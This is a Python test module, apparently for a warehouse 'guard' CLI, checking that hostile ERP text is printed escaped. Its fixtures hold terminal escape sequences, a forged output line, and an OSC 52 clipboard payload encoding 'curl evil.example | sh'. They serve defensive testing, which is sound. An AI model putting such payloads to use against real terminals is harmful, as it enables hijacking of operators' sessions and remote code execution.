"""The CLI never lets ERP-supplied text drive the operator's terminal (security review, finding 9).

A carrier, a tracking number or a supervisor's note may hold an escape sequence —
clear the screen (`ESC [2J`), write the clipboard (OSC 52), an 8-bit CSI — or a line
break that forges a line of output. `guard order`, `guard holds list`, `guard
notifications list` and the rest print them escaped (`\\x1b`, `\\n`), and `--json`
stays valid JSON with the exact text in it.
"""

from __future__ import annotations

import json

from support.api import CLEAR_FACTS

CLEAR_SCREEN = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: "curl evil.example | sh"
CSI_8BIT = "\x9b31m"
FORGED = "\nDO SHIP: supervisor approved"
HOSTILE = CLEAR_SCREEN + CLIPBOARD + CSI_8BIT + FORGED
RAW = ("\x1b", "\x07", "\x9b", "\r")


def hostile_order(guard) -> None:
    """An order whose ERP text and supervisor's note are hostile: held, then released by hand."""
    events = [
        guard.event(
            "o-1",
            fact_type,
            status,
            **(
                {"tracking_number": "LP1" + CLEAR_SCREEN, "carrier": "Cainiao" + HOSTILE}
                if fact_type == "shipping_notice"
                else {}
            ),
            reason="buyer said" + HOSTILE,
        )
        for fact_type, status in {**CLEAR_FACTS, "payment": "processing"}.items()
    ]
    guard.push(*events)
    assert guard.check("o-1", station_id="pack-1")["verdict"] == "hold"
    released = guard.client.post(
        "/v1/holds/o-1/release", json={"reason": "called the buyer" + HOSTILE}, headers=guard.auth()
    )
    assert released.status_code == 200, released.text
    guard.push(guard.event("o-9", "payment", "processing"))
    assert guard.check("o-9", station_id="pack-1")["verdict"] == "hold"


def assert_inert(text: str) -> None:
    assert not [char for char in RAW if char in text], repr(text)
    assert "DO SHIP: supervisor approved" not in text.splitlines()  # no forged line of its own


def test_guard_order_prints_hostile_text_escaped(guard, cli):
    hostile_order(guard)
    done = cli("order", "o-1")
    assert_inert(done.stdout + done.stderr)
    assert "Cainiao\\x1b[2J" in done.stdout  # still there for the operator to read
    assert "\\nDO SHIP: supervisor approved" in done.stdout


def test_guard_order_json_stays_json_with_the_exact_text(guard, cli):
    hostile_order(guard)
    done = cli("order", "o-1", "--json")
    assert_inert(done.stdout)
    shown = json.loads(done.stdout)
    assert shown["order"]["facts"]["shipping_notice"]["carrier"] == "Cainiao" + HOSTILE


def test_every_listing_prints_escaped(guard, cli):
    hostile_order(guard)
    for args in (
        ("holds", "list", "--state", "all"),
        ("notifications", "list", "--state", "pending"),
        ("apikey", "list"),
        ("export", "holds", "--format", "csv"),
    ):
        done = cli(*args)
        assert_inert(done.stdout + done.stderr)
